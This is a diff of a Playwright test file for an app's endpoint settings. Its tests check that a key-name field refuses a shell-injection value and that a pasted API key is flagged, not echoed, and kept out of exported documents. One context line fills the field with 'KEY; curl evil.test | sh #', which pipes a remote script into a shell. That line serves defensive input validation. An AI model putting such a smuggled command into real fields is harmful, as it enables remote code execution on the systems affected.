@@ -2,7 +2,7 @@ import { createServer, type IncomingMessage, type Server, type ServerResponse } 
 import type { AddressInfo } from "node:net";
 import { expect, test, type Page } from "@playwright/test";
 import { findings } from "./axe.js";
-import { asking, card, openDocument, picture } from "./builder.js";
+import { asking, card, exportedText, openDocument, picture } from "./builder.js";
 
 type Answer = (request: IncomingMessage, response: ServerResponse) => void;
 
@@ -158,6 +158,30 @@ test("a name of a key that cannot stand in a command is refused at its field", a
   await dialog.getByLabel("Name of the key").fill("KEY; curl evil.test | sh #");
   await dialog.getByRole("button", { name: "Save" }).click();
   await expect(dialog.getByRole("alert")).toContainText("Give the key a name of letters, digits and _");
+});
+
+test("a key that is pasted where its name belongs is refused, unquoted, and stays out of the document", async ({ page }) => {
+  const key = "gsk_abcdefghijklmnop1234567890";
+  const http = { url: "http://127.0.0.1:9/items", auth: { bearer: { secret: "MY_KEY" } } };
+  const steps = [{ id: "s1", type: "http", name: "fetch", http }];
+  await openDocument(page, { ...asking("http://127.0.0.1:9/v1", "MY_KEY"), steps });
+  await page.getByRole("button", { name: "Endpoint settings" }).first().click();
+  const dialog = page.getByRole("dialog");
+  await dialog.getByLabel("Name of the key").fill(key);
+  await expect(dialog.getByRole("alert")).toContainText("This looks like a key");
+  await expect(dialog.getByRole("alert")).not.toContainText("gsk_");
+  await dialog.getByRole("button", { name: "Save" }).click();
+  await expect(dialog).toBeVisible();
+  await picture(page, "endpoint-pasted-key");
+  await dialog.getByRole("button", { name: "Cancel" }).click();
+
+  await card(page, "fetch").click();
+  const name = page.locator(".inspector").getByLabel("Name of the key");
+  await name.fill(key);
+  await expect(page.locator(".inspector").getByText("This looks like a key")).toBeVisible();
+  await name.blur();
+  await expect(name).toHaveValue("MY_KEY");
+  expect(await exportedText(page)).not.toContain("gsk_");
 });
 
 test("the settings of a model open for that model", async ({ page }) => {
